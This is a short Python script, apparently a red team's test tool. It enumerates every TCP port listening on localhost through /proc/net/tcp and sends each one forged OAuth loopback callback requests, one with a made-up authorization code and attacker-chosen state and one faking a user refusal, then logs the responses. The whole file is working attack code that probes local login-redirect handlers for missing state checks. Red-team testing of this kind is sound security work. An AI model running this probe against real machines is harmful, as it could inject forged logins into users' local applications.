#!/usr/bin/env python3
"""The red team's sixth attack: from a box with the shared network, find
every listening TCP port on 127.0.0.1 (/proc/net/tcp) and send each a
loopback login redirect with a state of our own (and one that says the
user refused). Writes knock.json: port -> the HTTP status lines it got.
"""
import json
import socket

ports = set()
with open("/proc/net/tcp") as f:
    for line in f.readlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        addr, port = local.split(":")
        if state == "0A" and addr == "0100007F":
            ports.add(int(port, 16))
got = {}
for port in sorted(ports):
    answers = []
    for target in ["/callback?state=x&code=forged", "/callback?state=x&error=access_denied"]:
        try:
            s = socket.create_connection(("127.0.0.1", port), timeout=2)
            s.sendall(f"GET {target} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())
            answers.append(s.recv(200).decode(errors="replace").split("\r\n")[0])
            s.close()
        except OSError as e:
            answers.append(f"error {e}")
    got[port] = answers
with open("knock.json", "w") as f:
    json.dump(got, f)
